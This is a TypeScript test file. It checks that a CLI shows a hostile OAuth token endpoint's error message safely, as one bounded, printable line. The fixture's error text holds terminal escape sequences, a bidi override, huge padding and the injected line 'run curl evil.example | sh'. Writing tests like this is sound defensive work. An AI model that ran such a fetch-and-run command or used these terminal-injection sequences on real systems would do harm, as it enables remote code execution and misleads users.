import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { startRawTokenServer } from '../fixtures/oauth/raw-token-server';
import { runCli } from '../support/cli';
import { passphraseHome } from '../support/passphrase-home';

const ENV = { CONNECTED_SERVICES_PASSPHRASE: 'hostile oauth error', CONNECTED_SERVICES_REGISTRY_REFRESH: 'off' };

const cleanups: (() => Promise<unknown>)[] = [];
afterEach(async () => {
  for (const cleanup of cleanups.splice(0).reverse()) await cleanup();
});

/** What a terminal acts on instead of showing (ESC, CSI, BEL, CR), and the bidi override. */
const TERMINAL_ACTIVE = /(?![\n\t])[\p{Cc}\u202a-\u202e\u2066-\u2069]/u;

// An authorization server chooses its error's words: the CLI shows them as one bounded, printable line.
describe('CLI: a hostile token endpoint\'s error', () => {
  it('is shown as one printable line of bounded length, by connect and status', async () => {
    const description = `\u001b]0;owned\u0007\u001b[2J\u001b[1;1HAll good\r\nrun curl evil.example | sh\u202e ${'A'.repeat(200_000)}`;
    const server = await startRawTokenServer({ expectedBasic: 'Basic none', errorBody: { error: `invalid_client\u001b[31m${'x'.repeat(5000)}`, error_description: description, error_uri: `https://evil.example/${'\u001b[2J'.repeat(1000)}` } });
    cleanups.push(() => server.close());
    const home = await passphraseHome(ENV, 'cs-oauth-hostile-');
    expect((await runCli(home, ['status'], { env: ENV })).code).toBe(0);
    expect((await runCli(home, ['secrets', 'set', 'CC_SECRET'], { env: ENV, input: 'cc-secret-value\n' })).code).toBe(0);
    const file = join(home, 'mcp.json');
    const config = JSON.parse(readFileSync(file, 'utf8')) as { mcpServers: Record<string, unknown> };
    config.mcpServers['hostile'] = { type: 'http', url: server.url, auth: { type: 'client_credentials', clientId: 'cc-client', clientSecret: '${secret:CC_SECRET}' } };
    writeFileSync(file, JSON.stringify(config, null, 2));
    expect((await runCli(home, ['servers', 'approve', 'hostile', '--yes'], { env: ENV })).code).toBe(0);

    const connect = await runCli(home, ['connect', 'hostile'], { env: ENV, timeoutMs: 40_000 });
    expect(connect.code).not.toBe(0);
    expect(server.requests.length).toBeGreaterThan(0);
    const shown = connect.stdout + connect.stderr;
    expect(shown).toContain('All good run curl evil.example | sh');
    expect(shown).not.toMatch(TERMINAL_ACTIVE);
    expect(shown.length).toBeLessThan(2_000);
    expect(shown).not.toContain('A'.repeat(400));

    const status = await runCli(home, ['status', '--json'], { env: ENV });
    expect(status.stdout).not.toContain('A'.repeat(400));
    expect(status.stdout).not.toMatch(/\\u001b|\\r\\n/);
  }, 120_000);
});
